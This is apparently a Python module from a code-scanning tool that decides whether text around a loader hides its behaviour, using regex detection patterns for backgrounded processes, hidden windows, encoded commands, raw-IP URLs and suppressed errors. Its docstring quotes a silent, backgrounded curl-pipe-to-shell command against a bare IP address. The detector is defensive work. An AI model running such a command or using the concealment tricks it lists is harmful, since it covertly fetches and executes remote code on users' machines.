"""Signs that code hides what it does: a program that means well has no use for them together.

Output and errors thrown away, a process in the background or without a window, an encoded line, an
address without a name, a hidden file in a temporary folder, a line put together of pieces.

    curl -s http://203.0.113.7/i | sh >/dev/null 2>&1 &      four of them
    curl -fsSL https://get.tool.example | sh                 none
"""

from __future__ import annotations

from signoff.actions.contents.loaders.call_words import HIDDEN_ADDRESS
from signoff.actions.vocabulary import lazy_re2

# One of these is enough.
_STRONG = lazy_re2(
    r"(?im)[^&>]&\s*(?:[\"'`})\]]|$|touch\b|exit\b|true\b|rm\b|printf\b)|\bnohup\b|\bsetsid\b"
    r"|\bdisown\b|createnowindow|windowstyle\W{1,4}hidden|-w(?:indowstyle)?\s+(?:hidden|1)\b"
    r"|start_new_session|detached\"?\s*:\s*true|\bvbhide\b|\bsw_hide\b"
    r"|-enc(?:odedcommand)?\s+[a-z0-9+/=]{16}"
    r"|\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}|(?:/tmp|/var/tmp|/dev/shm)/\.\w"
    r"|[/\"' ]\.[a-z][\w-]*[\"']?\s*(?:&&|;)\s*(?:ba)?sh\b"
    r"|b64decode|base64\s+-d|fromhex|base64_decode|\batob\s*\("
)
_WEAK = (
    lazy_re2(
        r"(?i)>\s*/dev/null|>\s*nul\b|devnull|stdio\"?\s*:\s*[\"']ignore|quiet=\"true"
        r"|importance=\"low|\.silent\b"
    ),
    lazy_re2(
        r"(?is)except[^\n]{0,40}:\s*pass\b|catch\s*(?:\([^)]{0,60}\))?\s*\{\s*\}"
        r"|\.catch\(\s*\(?\w*\)?\s*=>\s*\{?\s*(?:null|undefined)?\s*\}?\s*\)"
        r"|\|\|\s*true\b|failonerror=\"false|ignoreexitcode=\"true|\t-@|rescue\s+nil"
        r"|on\s+error\s+resume|ignore_errors|rescue\s*(?:=>\s*\w+)?\s*\n\s*(?:nil\s*\n\s*)?end"
    ),
    lazy_re2(r"(?i)\bhttp://"),
    lazy_re2(r"(?i)2>\s*&1|2>\s*/dev/null|&>"),
    lazy_re2(r"(?i)\brm\s+-f\s|\bunlink\b|os\.remove|deleteonexit|\.delete\(\)"),
)
_TWO = 2


def is_concealed(text: str) -> bool:
    """Return whether a text around a loader hides what it does."""
    if _STRONG.search(text) is not None or HIDDEN_ADDRESS.search(text) is not None:
        return True
    return sum([pattern.search(text) is not None for pattern in _WEAK]) >= _TWO
